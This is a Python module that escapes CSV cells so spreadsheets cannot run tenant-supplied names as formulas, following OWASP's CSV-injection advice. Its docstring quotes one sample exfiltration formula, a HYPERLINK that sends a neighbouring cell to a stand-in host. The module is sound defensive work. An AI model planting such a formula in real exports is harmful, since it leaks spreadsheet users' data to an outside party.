"""CSV cells a spreadsheet cannot run as formulas (OWASP "CSV Injection"): every CSV the console writes.

A customer tenant chooses its users' displayName and UPN, and they reach our CSVs (census, audit
exports). Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-`, `@`, a tab or
a carriage return as a formula (`=HYPERLINK("http://x/?leak="&A2,"click")` sends a neighbouring cell
away). As OWASP recommends, such a cell gets a leading single quote, which makes it text, and every text
cell of a row is quoted (`QUOTE_NONNUMERIC`), so a `;` or `,` inside a cell cannot start a new cell that a
spreadsheet using the other separator would read as a formula. Numbers stay unquoted numbers (a negative
counter is not text a tenant chose), and so does the header (our own column names).

A cell that already starts with quotes followed by one of those characters (`'=x`) gets one more, so the
escaping can be undone exactly (`unescape_cell`): a scheduled audit export is verified by reading its
cells back and recomputing the row hashes over the original values.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# The manifest of a scheduled export names the escaping its CSV cells carry (`csv_cell_escaping`).
ESCAPING = "owasp-leading-quote"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A cell can need a quote only if it starts with one of these (a quote may precede the formula start).
_FIRST_CHARS = frozenset("".join(FORMULA_STARTS) + "'")


def _needs_quote(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def escape_cell(value: Any) -> Any:
    """`value` with a leading `'` if it is text a spreadsheet would read as a formula; else unchanged."""
    if isinstance(value, str) and value[:1] in _FIRST_CHARS and _needs_quote(value):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The cell as it was before `escape_cell` (exactly: `unescape_cell(escape_cell(s)) == s`)."""
    if text.startswith("'") and _needs_quote(text):
        return text[1:]
    return text


def is_escaped(text: str) -> bool:
    """Whether a cell read back is in the form `escape_cell` writes (a raw `=x` is not)."""
    return escape_cell(unescape_cell(text)) == text


def safe_row(row: Iterable[Any]) -> list[Any]:
    """The row's cells, each through `escape_cell`."""
    return [escape_cell(value) for value in row]


class _Line:
    """A file-like object whose `write` hands the text back, so `writerow` returns the line."""

    def write(self, value: str) -> str:
        return value


class SafeWriter:
    """`csv.writer` for the console's CSVs: a plain header, then rows through `safe_row`, text quoted.

    Without `out`, `writeheader` and `writerow` return each line (for streamed responses).
    """

    def __init__(self, out: Any = None) -> None:
        out = _Line() if out is None else out
        self._header = csv.writer(out)
        self._rows = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)

    def writeheader(self, names: Iterable[str]) -> Any:
        # Column names are the console's own, never a tenant's: written as they always were.
        names = list(names)
        if safe_row(names) != names:
            raise ValueError(f"a column name starts like a formula: {names}")
        return self._header.writerow(names)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._rows.writerow(safe_row(row))
